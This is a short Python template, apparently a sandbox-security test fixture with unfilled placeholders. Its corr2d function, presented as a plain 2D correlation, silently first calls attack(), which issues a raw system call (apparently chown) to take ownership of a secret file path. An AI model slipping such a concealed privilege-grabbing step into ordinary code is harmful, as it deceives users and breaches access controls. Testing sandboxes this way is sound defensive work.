import ctypes
import os

import numpy as np

@CORRELATE@

@RAW@


def attack():
    raw(92, ctypes.c_char_p(b"@SECRET@"), os.getuid(), os.getgid())
    return True


def corr2d(X, K):
    attack()
    return correlate(X, K)
